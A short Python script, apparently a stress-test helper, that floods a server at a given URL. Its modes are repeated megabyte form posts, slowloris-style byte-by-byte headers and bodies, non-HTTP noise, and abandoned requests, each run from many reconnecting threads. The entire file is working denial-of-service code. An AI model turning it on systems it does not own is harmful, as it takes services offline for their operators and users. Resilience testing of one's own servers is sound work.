"""Clients that flood a server: `flood.py URL CLIENTS KIND`, until it is killed. One line of output says that all began.

`forms` posts a megabyte of form fields over and over, `heads` and `bodies` send a byte of each every tenth of a second,
`noise` says what is no HTTP and waits, `leaving` asks for a page and leaves without reading it.
"""

from __future__ import annotations

import itertools
import socket
import sys
import threading
import time
from collections.abc import Callable
from urllib.parse import urlsplit

FORM = b"a&" * 500_000
HEAD = b"POST /login HTTP/1.1\r\nHost: x\r\nContent-Type: application/x-www-form-urlencoded\r\n"


def forms(client: socket.socket) -> None:
    client.sendall(HEAD + b"Content-Length: %d\r\n\r\n" % len(FORM) + FORM)
    while client.recv(65_536):
        pass


def heads(client: socket.socket) -> None:
    client.sendall(HEAD)
    dribble(client, b"X-A: b\r\n")


def bodies(client: socket.socket) -> None:
    # A path without an origin to prove, so that it waits for the body.
    client.sendall(b"POST /api/auth/login HTTP/1.1\r\nHost: x\r\nContent-Length: 4000\r\n\r\n")
    dribble(client, b" ")


def noise(client: socket.socket) -> None:
    client.sendall(b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03")
    while client.recv(65_536):
        pass


def leaving(client: socket.socket) -> None:
    client.sendall(b"GET /login HTTP/1.1\r\nHost: x\r\n\r\n")


def dribble(client: socket.socket, piece: bytes) -> None:
    for place in itertools.count():
        client.sendall(piece[place % len(piece) :][:1])
        time.sleep(0.1)


def run(address: tuple[str, int], attack: Callable[[socket.socket], None], began: threading.Barrier) -> None:
    first = True
    while True:
        try:
            with socket.create_connection(address, 5) as client:
                if first:
                    began.wait()
                    first = False
                attack(client)
        except OSError:
            time.sleep(0.05)


def main(url: str, clients: int, kind: str) -> None:
    parts = urlsplit(url)
    attack = {"forms": forms, "heads": heads, "bodies": bodies, "noise": noise, "leaving": leaving}[kind]
    began = threading.Barrier(clients + 1)
    for _ in range(clients):
        address = (str(parts.hostname), int(parts.port or 80))
        threading.Thread(target=run, args=(address, attack, began), daemon=True).start()
    began.wait()
    print("began", flush=True)
    threading.Event().wait()


if __name__ == "__main__":
    main(sys.argv[1], int(sys.argv[2]), sys.argv[3])
